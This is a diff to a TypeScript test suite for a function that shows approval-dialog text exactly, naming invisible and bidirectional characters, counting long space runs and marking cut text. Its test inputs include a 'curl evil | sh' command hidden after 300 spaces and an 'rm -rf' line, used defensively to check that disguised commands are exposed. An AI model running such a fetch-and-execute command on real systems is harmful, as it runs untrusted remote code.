@@ -21,7 +21,7 @@ function unwrap(shown: string): string {
     .join("");
 }
 
-const hex = (code: number) => `<U+${code.toString(16).toUpperCase().padStart(4, "0")}>`;
+const hex = (code: number) => `⟨U+${code.toString(16).toUpperCase().padStart(4, "0")}⟩`;
 
 describe("approval dialogs' text", () => {
   it("names every control, bidirectional, invisible and non-ASCII space character", () => {
@@ -39,9 +39,9 @@ describe("approval dialogs' text", () => {
       assert.equal(showExactly(`npm${char}test`).text, `npm${hex(code)}test`, hex(code));
       assert.equal(visibleInline(`npm${char}test`), `npm${hex(code)}test`, hex(code));
     }
-    assert.equal(showExactly("a\ud800b").text, "a<U+D800>b", "a lone surrogate");
-    assert.equal(showExactly("\u001b[2K\rnpm test").text, "<U+001B>[2K<U+000D>npm test");
-    assert.equal(showExactly("rm -rf /tmp/x\t#").text, "rm -rf /tmp/x<U+0009>#");
+    assert.equal(showExactly("a\ud800b").text, "a⟨U+D800⟩b", "a lone surrogate");
+    assert.equal(showExactly("\u001b[2K\rnpm test").text, "⟨U+001B⟩[2K⟨U+000D⟩npm test");
+    assert.equal(showExactly("rm -rf /tmp/x\t#").text, "rm -rf /tmp/x⟨U+0009⟩#");
   });
 
   it("leaves ordinary text, accents and other scripts as they are", () => {
@@ -57,7 +57,7 @@ describe("approval dialogs' text", () => {
 
   it("counts long runs of spaces that would push the rest out of sight", () => {
     const shown = showExactly(`npm test${" ".repeat(300)}; curl evil | sh`).text;
-    assert.ok(shown.includes("<300 spaces>"), shown);
+    assert.ok(shown.includes("npm test⟨300 spaces⟩; curl evil | sh"), shown);
     assert.ok(shown.includes("; curl evil | sh"), shown);
     assert.equal(showExactly("a   b").text, "a   b", "short runs stay");
   });
@@ -83,7 +83,7 @@ describe("approval dialogs' text", () => {
 
     // A name never breaks inside.
     const names = showExactly(`${"a".repeat(78)}\u202e\u202e`).text;
-    assert.ok(names.includes("<U+202E>"), names);
+    assert.ok(names.includes("⟨U+202E⟩"), names);
   });
 
   it("shows a long text in full or says exactly how much of it is not shown", () => {
@@ -92,7 +92,7 @@ describe("approval dialogs' text", () => {
     const display = shown.text.split("\n");
     assert.equal(display.length, 40);
     assert.equal(display[0], `line 000${NEWLINE_MARK}`);
-    assert.equal(display[30], "[… 549 characters (61 lines) not shown here …]");
+    assert.equal(display[30], "⟨… 549 characters (61 lines) not shown here …⟩");
     assert.equal(display[39], "line 099");
     assert.equal(shown.hiddenChars, 549);
     assert.equal(display[29], `line 029${NEWLINE_MARK}`);
@@ -112,7 +112,7 @@ describe("approval dialogs' text", () => {
       const result = showExactly(text, { maxLines: 30 });
       if (result.hiddenChars === 0) assert.equal(unwrap(result.text), text);
       else {
-        const gap = /\[… ([\d,]+) characters \((\d+) lines\) not shown here …\]/.exec(result.text);
+        const gap = /⟨… ([\d,]+) characters \((\d+) lines\) not shown here …⟩/.exec(result.text);
         assert.ok(gap, result.text);
         assert.equal(Number(gap[1].replace(/,/g, "")), result.hiddenChars);
         const [head, tail] = result.text.split(gap[0]);
@@ -125,11 +125,11 @@ describe("approval dialogs' text", () => {
   it("explains its marks only when the text has some", () => {
     assert.equal(marksLegend(showExactly("npm test").text), "");
     for (const text of ["npm\u202etest", "a\nb", `a${" ".repeat(9)}b`])
-      assert.match(marksLegend(showExactly(text).text), /<U\+…> marks/);
+      assert.match(marksLegend(showExactly(text).text), /⟨U\+…⟩ names/);
   });
 
   it("cuts a short name with a mark, never silently", () => {
-    assert.equal(visibleInline("npm run build-everything", 7), "npm run…");
+    assert.equal(visibleInline("npm run build-everything", 7), "npm run⟨…⟩");
     assert.equal(visibleInline("npm", 7), "npm");
   });
 });
